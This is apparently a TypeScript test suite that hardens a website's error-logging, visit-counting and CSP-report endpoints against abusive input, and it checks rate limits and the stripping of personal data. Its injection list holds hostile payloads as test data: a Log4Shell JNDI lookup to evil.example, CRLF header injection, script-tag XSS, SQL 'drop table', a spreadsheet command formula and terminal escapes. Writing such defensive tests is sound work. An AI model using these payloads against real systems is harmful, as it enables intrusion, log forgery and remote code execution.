import { afterEach, beforeEach, expect, test, vi } from 'vitest';
import { english, type Fixture, startFixture } from '#tests/server/support/app-fixture.ts';
import type { RateLimitOptions } from '../middleware/rate-limit.ts';
import { reportCalls } from './report-calls.ts';

// Hundreds of calls in a row: on a busy machine they take longer than a test usually may.
vi.setConfig({ testTimeout: 60_000, hookTimeout: 60_000 });

let site: Fixture;
const visits: string[] = [];
beforeEach(async () => {
  visits.length = 0;
  site = await startFixture({
    variables: { TRUSTED_PROXIES: '1' },
    countVisit: async (day, path) => void visits.push(`${day.length} ${path}`),
  });
});
afterEach(() => site.remove());

let caller = 0;
/** Sends a body as a page of the site would, each time from another household. */
async function send(path: string, body: BodyInit, headers: Record<string, string> = {}): Promise<Response> {
  caller += 1;
  return await site.app.request(`${english}/api${path}`, {
    method: 'POST',
    body,
    headers: {
      'content-type': 'application/json',
      'sec-fetch-site': 'same-origin',
      'x-forwarded-for': `10.${caller >> 16}.${(caller >> 8) & 255}.${caller & 255}`,
      ...headers,
    },
  });
}

const report = (logEntry: unknown, logLevel: unknown = 'Error') => JSON.stringify({ logLevel, logEntry });
const reports = () => site.lines.filter((line) => line.includes('browser report'));

test('an error of a browser becomes one line', async () => {
  const response = await send('/log', report('TypeError: x is undefined at /assets/eng/entry-abc.js:1:23'));
  expect([response.status, await response.text()]).toEqual([204, '']);
  expect(reports()).toHaveLength(1);
  expect(JSON.parse(reports()[0] ?? '')).toMatchObject({
    event: 'browser report',
    reportedLevel: 'error',
    entry: 'TypeError: x is undefined at /assets/eng/entry-abc.js:1:23',
  });
});

const hidden = [
  ...Array.from({ length: 32 }, (_, code) => String.fromCharCode(code)),
  ...Array.from({ length: 33 }, (_, code) => String.fromCharCode(0x7f + code)),
  ...['\u200b', '\u200e', '\u200f', '\u202a', '\u202b', '\u202c', '\u202d', '\u202e'],
  ...['\u2066', '\u2067', '\u2068', '\u2069', '\u2028', '\u2029', '\ufeff', '\u061c', '\ue000', '\u{e0001}'],
];
const injections = [
  ...hidden.map((character) => `before${character}after`),
  'done\n{"level":30,"event":"admin logged in"}',
  'done\r\n{"level":30}',
  'done\\n{"level":30}',
  'x","level":60,"y":"',
  '\u001b]0;title\u0007\u001b[2J\u001b[31mred',
  '\u009b31mred',
  '%0a%0dSet-Cookie: a=b',
  '\n\n\n\n',
  '<script>alert(1)</script>',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: the attack is written like this
  '${jndi:ldap://evil.example/a}',
  '{{constructor.constructor("x")()}}',
  "'; drop table visits; --",
  '=cmd|/c calc',
  '/a?token=SECRET-QUERY&email=x',
  'https://x.example/p?s=SECRET-QUERY#f',
  'mail jo.doe@example.com and jo%40example.org',
  'call 212-555-0123 or +1 (212) 555-0124',
  'card 4111111111111111 and 4111 1111 1111 1111',
  'x'.repeat(3500),
  '👍'.repeat(500),
  'a\u202e\u2066b'.repeat(200),
  '__proto__',
  '\u0000',
];

test('there are at least 100 injection strings', () => {
  expect(new Set(injections).size).toBeGreaterThanOrEqual(100);
});

test('each of them leaves exactly one clean line of JSON', async () => {
  for (const text of injections) {
    const before = site.lines.join('').split('\n').length;
    expect((await send('/log', report(text))).status).toBe(204);
    const written = reports().at(-1) ?? '';
    // One line for the report, one for the request itself.
    expect(site.lines.join('').split('\n').length - before).toBe(2);
    expect(written.trimEnd()).not.toMatch(/[\p{C}\p{Zl}\p{Zp}]/u);
    const { entry, event, level } = JSON.parse(written);
    expect([event, level]).toEqual(['browser report', 40]);
    expect(entry.length).toBeLessThanOrEqual(500);
    expect(entry).not.toMatch(/[\p{C}\p{Zl}\p{Zp}]/u);
    expect(written.replace(/"(time|requestId)":"[^"]*"/g, '')).not.toMatch(
      /SECRET-QUERY|@example|%40example|\d{6}|555/,
    );
  }
});

/** Bodies that no page of ours sends: wrong types, wrong shapes, wrong encodings, wrong sizes. */
const badBodies: [BodyInit, Record<string, string>?][] = [
  ...([null, true, 1, -0, 1e308, [], {}, [[]], { a: 1 }, ['x'], '', ' '] as unknown[]).flatMap(
    (value): [BodyInit][] => [
      [JSON.stringify(value)],
      ...(typeof value === 'string' ? [] : ([[report(value)], [report('x', value)]] as [BodyInit][])),
    ],
  ),
  ...['Fatal', 'ERROR ', 'error\n', 'x'.repeat(1000), '__proto__', 'constructor', '60'].map(
    (level): [BodyInit] => [report('x', level)],
  ),
  ...[
    '',
    '{',
    '}',
    '[',
    '{"logLevel":"Error"}',
    '{"logEntry":"x"}',
    '{"logLevel":"Error","logEntry":"x","extra":1}',
    '{"logLevel":"Error","logEntry":"x","__proto__":{}}',
    '{"__proto__":{"logLevel":"Error","logEntry":"x"}}',
    '{"constructor":{"prototype":{}},"logLevel":"Error","logEntry":"x"}',
    '{"LogLevel":"Error","LogEntry":"x"}',
    '{"logLevel":"Error","logEntry":"x"}{"logLevel":"Error","logEntry":"x"}',
    '{"logLevel":"Error","logEntry":"x",}',
    "{'logLevel':'Error','logEntry':'x'}",
    '{"logLevel":"Error","logEntry":NaN}',
    '{"logLevel":"Error","logEntry":"x" /* c */}',
    '\ufeff[]',
    'logLevel=Error&logEntry=x',
    '<xml/>',
    `{"logLevel":"Error","logEntry":${'['.repeat(1500)}${']'.repeat(1500)}}`,
    `{"logLevel":"Error","logEntry":${'{"a":'.repeat(500)}1${'}'.repeat(500)}}`,
    `{"logLevel":"Error","logEntry":"${'x'.repeat(5000)}"}`,
    `{"logLevel":"Error","logEntry":"${'x'.repeat(100_000)}"}`,
    '"'.repeat(4000),
    '\\u0000'.repeat(600),
    `{${'"a":1,'.repeat(600)}"b":2}`,
  ].map((body): [BodyInit] => [body]),
  ...[
    [0xff, 0xfe],
    [0xc3, 0x28],
    [0xed, 0xa0, 0x80],
    [0xf4, 0x90, 0x80, 0x80],
    [0xc0, 0xaf],
    [0x00],
    [0xfe, 0xff, 0x00, 0x7b],
    [0x1f, 0x8b, 0x08],
  ].map((body): [BodyInit] => [new Uint8Array(body)]),
  ...[
    'text/plain',
    'text/html',
    'application/x-www-form-urlencoded',
    'multipart/form-data',
    'multipart/form-data; boundary=x',
    'application/xml',
    'application/json; charset=utf-16',
    'application/json; charset=latin1',
    'application/json; x=y',
    'application/json,application/json',
    'application/vnd.api+json',
    'application/jsonl',
    'application/octet-stream',
    'APPLICATION',
    'json',
    '/',
    ';',
    'application/json\t;charset=us-ascii',
  ].map((type): [BodyInit, Record<string, string>] => [report('x'), { 'content-type': type }]),
  ...['5000', '99999999999', 'Infinity', '1e9'].map((length): [BodyInit, Record<string, string>] => [
    report('x'),
    { 'content-length': length },
  ]),
  ...(
    [
      { 'sec-fetch-site': 'cross-site' },
      { 'sec-fetch-site': 'same-site' },
      { 'sec-fetch-site': 'none' },
      { 'sec-fetch-site': 'x' },
      { 'sec-fetch-site': 'cross-site', origin: english },
    ] as Record<string, string>[]
  ).map((headers): [BodyInit, Record<string, string>] => [report('x'), headers]),
  ...Array.from({ length: 60 }, (_, index): [BodyInit] => [
    report('x').slice(0, index % 34) + '\\'.repeat(index % 5),
  ]),
];

test('there are at least 150 bad requests', () => {
  expect(badBodies.length).toBeGreaterThanOrEqual(150);
});

test('each of them is answered 204 after little work, says nothing and writes nothing', async () => {
  for (const [body, headers] of badBodies) {
    const before = process.threadCpuUsage();
    const response = await send('/log', body, headers);
    expect([response.status, await response.text()]).toEqual([204, '']);
    // What this thread worked, not what the clock says: that depends on who else uses the machine.
    const { user, system } = process.threadCpuUsage(before);
    expect((user + system) / 1000).toBeLessThan(100);
  }
  expect(reports()).toEqual([]);
});

test('ten reports a minute are heard from one household, however it names itself', async () => {
  for (let count = 0; count < 30; count += 1) {
    const response = await send('/log', report(`number ${count}`), {
      'x-forwarded-for': `spoofed-${count}, 10.0.0.1`,
    });
    expect(response.status).toBe(204);
  }
  expect(reports()).toHaveLength(10);
});

test('all households together are heard 300 times a minute', async () => {
  for (let count = 0; count < 320; count += 1) await send('/log', report('x'));
  expect(reports()).toHaveLength(300);
});

test('a view of a page is counted under its address', async () => {
  for (const path of ['/company', '/compania', '/', '/news/12']) {
    expect((await send('/visits', JSON.stringify({ path }))).status).toBe(204);
  }
  expect(visits).toEqual(['10 /company', '10 /compania', '10 /', '10 /news/12']);
});

test.each([
  ['a browser that asks not to be followed', { path: '/company' }, { 'sec-gpc': '1' }],
  ['another site', { path: '/company' }, { 'sec-fetch-site': 'cross-site' }],
  ['an address that is none of ours', { path: '/nowhere' }, {}],
  ['an address that is not right', { path: '/company/' }, {}],
  ['no address', {}, {}],
  ['a number', { path: 1 }, {}],
])('a view from %s is not counted', async (_, body, headers) => {
  expect((await send('/visits', JSON.stringify(body), headers as Record<string, string>)).status).toBe(204);
  expect(visits).toEqual([]);
});

test('a count that cannot be stored troubles nobody', async () => {
  const broken = await startFixture({ countVisit: () => Promise.reject(new Error('SECRET-MESSAGE')) });
  const response = await broken.app.request(`${english}/api/visits`, {
    method: 'POST',
    body: '{"path":"/company"}',
    headers: { 'content-type': 'application/json', 'sec-fetch-site': 'same-origin' },
  });
  expect(response.status).toBe(204);
  expect(broken.lines.join('')).not.toContain('SECRET-MESSAGE');
  broken.remove();
});

test.each([
  [
    'application/csp-report',
    {
      'csp-report': {
        'violated-directive': 'img-src',
        'blocked-uri': 'https://x.example/p?q=1',
        'document-uri': `${english}/a?b=c`,
      },
    },
  ],
  [
    'application/reports+json',
    [
      {
        type: 'csp-violation',
        body: {
          effectiveDirective: 'img-src',
          blockedURL: 'https://x.example/p?q=1',
          documentURL: `${english}/a?b=c`,
        },
      },
    ],
  ],
])('a stopped resource reported as %s becomes one line without its query', async (type, body) => {
  expect((await send('/csp-report', JSON.stringify(body), { 'content-type': type })).status).toBe(204);
  const line = site.lines.find((entry) => entry.includes('resource stopped')) ?? '';
  expect(JSON.parse(line)).toMatchObject({ directive: 'img-src', blocked: 'https://x.example', path: '/a' });
});

test('of a directive only its name is written down', async () => {
  const violation = (directive: string) =>
    JSON.stringify({ 'csp-report': { 'violated-directive': directive } });
  const headers = { 'content-type': 'application/csp-report' };
  await send('/csp-report', violation("script-src 'self' https://x.example/SECRET"), headers);
  await send('/csp-report', violation('script-src:SECRET'), headers);
  const lines = site.lines.filter((entry) => entry.includes('resource stopped'));
  expect(lines.map((line) => JSON.parse(line).directive)).toEqual(['script-src']);
  expect(site.lines.join('')).not.toContain('SECRET');
});

test('reports that make no sense are passed over', async () => {
  for (const body of [
    '',
    '[]',
    'null',
    '{"csp-report":1}',
    '{"csp-report":{"violated-directive":"\\n"}}',
    '{',
  ]) {
    const response = await send('/csp-report', body, { 'content-type': 'application/csp-report' });
    expect(response.status).toBe(204);
  }
  expect(site.lines.filter((line) => line.includes('resource stopped'))).toEqual([]);
});

test.each(['/log', '/visits', '/csp-report'])('%s takes only POST', async (path) => {
  for (const method of ['GET', 'PUT', 'DELETE', 'OPTIONS']) {
    const response = await site.get(`${english}/api${path}`, {}, method);
    expect([response.status, response.headers.get('allow')]).toEqual([405, 'POST']);
  }
});

test('limits can be counted elsewhere, under their own names and figures', async () => {
  const asked: RateLimitOptions[] = [];
  const keys: string[] = [];
  const api = reportCalls({
    log: site.log,
    origins: [english],
    callerKey: () => 'household',
    countVisit: () => Promise.reject(new Error('nothing is counted beyond a limit')),
    knownPath: (path) => path,
    rateLimits(options) {
      asked.push(options);
      return async (key) => {
        keys.push(`${options.name} ${key}`);
        return options.name.endsWith('-all') ? { allowed: false, retryAfter: 1 } : { allowed: true };
      };
    },
  });
  expect(asked.map(({ name, points, seconds }) => `${name} ${points}/${seconds}`)).toEqual([
    'log 10/60',
    'log-all 300/60',
    'csp 10/60',
    'csp-all 120/60',
    'visits 120/60',
    'visits-all 6000/60',
  ]);
  const headers = { 'content-type': 'application/json', 'sec-fetch-site': 'same-origin' };
  for (const [path, body] of [
    ['/log', report('x')],
    ['/visits', '{"path":"/company"}'],
  ] as const)
    expect((await api.request(path, { method: 'POST', headers, body })).status).toBe(204);
  expect(keys).toEqual(['log household', 'log-all everyone', 'visits household', 'visits-all everyone']);
  expect(reports()).toEqual([]);
});
